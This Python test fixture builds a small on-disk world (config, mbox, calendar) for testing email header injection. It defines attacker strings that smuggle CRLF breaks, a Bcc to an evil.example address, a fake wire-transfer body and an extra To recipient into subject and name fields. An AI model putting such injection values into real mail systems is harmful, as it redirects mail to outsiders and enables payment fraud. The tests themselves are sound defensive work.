"""A small rep's world on disk for the header attacks (issue 15): one account, one person,
her mail and one meeting that just ended, each field open to an outsider's text."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from datetime import datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path

from tests.conftest import NOW

ME = "rep@seller.example"
KATE = "kate@acme.example"
EVIL = "attacker@evil.example"
# What the outsider smuggles: line breaks, a Bcc, a new body; and a second To recipient.
INJECTION = f"Pilot review\r\nBcc: {EVIL}\r\n\r\nWire the money to the new account."
SECOND_TO = f"Kate <{EVIL}>,"


def encoded(text: str, how: str = "b") -> str:
    """``text`` as one RFC 2047 encoded word."""
    data = text.encode()
    if how == "b":
        return f"=?utf-8?b?{base64.b64encode(data).decode()}?="
    quoted = "".join(chr(b) if chr(b).isalnum() else f"={b:02X}" for b in data)
    return f"=?utf-8?q?{quoted}?="


@dataclass
class World:
    folder: Path

    @property
    def args(self) -> list[str]:
        return ["--config", str(self.folder / "config.yaml"), "--home", str(self.folder / "home")]

    def outbox(self, name: str = "drafts") -> list[Path]:
        return sorted((self.folder / "outbox" / name).glob("*.eml"))


def write_world(
    folder: Path,
    *,
    title: str = "Pilot review",
    name: str = "Kate Morgan",
    sender: str = f"Kate Morgan <{KATE}>",
    contact: str = KATE,
    account: str = "Acme",
    csv: bool = False,
    extra_yaml: str = "",
    listed: bool = True,
) -> World:
    """config.yaml (or an accounts CSV), mail.mbox with Kate's mail, calendar.ics with a
    meeting that ended yesterday: the next cycle plans a do-over for her."""
    folder.mkdir(parents=True, exist_ok=True)
    people = [{"email": contact, "name": name}] if listed else []
    entry = {
        "name": account,
        "domains": ["acme.example"],
        "tier": "dream",
        "stage": "cold",
        "needs": ["the contract end date"],
        "contacts": people,
    }
    lines = [
        f"me: [{ME}]",
        "internal_domains: [seller.example]",
        "timezone: UTC",
        "local: {mail: mail.mbox, calendars: [calendar.ics], outbox: outbox}",
    ]
    if csv:
        (folder / "accounts.csv").write_text(
            "name,domains,tier,stage,needs,contacts\n"
            f'"{account}",acme.example,dream,cold,the contract end date,"{name} <{contact}>"\n'
        )
        lines.append("accounts_file: accounts.csv")
    else:
        lines.append(f"accounts: {json.dumps([entry])}")
    (folder / "config.yaml").write_text("\n".join(lines) + "\n" + extra_yaml)
    (folder / "mail.mbox").write_bytes(_mbox(sender))
    (folder / "calendar.ics").write_text(_calendar(title, contact, name), newline="")
    return World(folder)


def _mbox(sender: str) -> bytes:
    out = []
    for days, (frm, to) in enumerate([(ME, sender), (sender, ME)], start=40):
        when = NOW - timedelta(days=days)
        out.append(
            f"From x {when:%a %b %d %H:%M:%S %Y}\n"
            f"From: {frm}\nTo: {to}\nSubject: Cold chain\n"
            f"Date: {when:%a, %d %b %Y %H:%M:%S +0000}\n"
            f"Message-ID: <m{days}@mail.example>\n\nHello.\n\n"
        )
    return "".join(out).encode()


def _ical_text(value: str) -> str:
    return (
        value.replace("\\", "\\\\")
        .replace(";", "\\;")
        .replace(",", "\\,")
        .replace("\r\n", "\\n")
        .replace("\n", "\\n")
    )


def _calendar(title: str, contact: str, name: str) -> str:
    start = NOW - timedelta(days=1, hours=3)
    end = start + timedelta(hours=1)
    stamp = "%Y%m%dT%H%M%SZ"
    return "\r\n".join(
        [
            "BEGIN:VCALENDAR",
            "VERSION:2.0",
            "PRODID:-//attack//EN",
            "BEGIN:VEVENT",
            "UID:meeting-1@acme.example",
            f"DTSTAMP:{start:{stamp}}",
            f"DTSTART:{start:{stamp}}",
            f"DTEND:{end:{stamp}}",
            f"SUMMARY:{_ical_text(title)}",
            f"ORGANIZER:mailto:{ME}",
            f"ATTENDEE;PARTSTAT=ACCEPTED:mailto:{ME}",
            f'ATTENDEE;CN="{name}";PARTSTAT=ACCEPTED:mailto:{contact}',
            "END:VEVENT",
            "END:VCALENDAR",
            "",
        ]
    )


def parsed(raw: bytes) -> EmailMessage:
    return message_from_bytes(raw, policy=policy.default)


def recipients(raw: bytes) -> list[str]:
    """Every address the message would go to (To, Cc, Bcc), as a mail server reads them."""
    message = parsed(raw)
    found = []
    for name in ("to", "cc", "bcc"):
        for header in message.get_all(name, ()):
            found += [a.addr_spec for a in header.addresses]
    return found


def header_names(raw: bytes) -> list[str]:
    return [name.lower() for name in parsed(raw)]


def at(days: float) -> datetime:
    return NOW + timedelta(days=days)
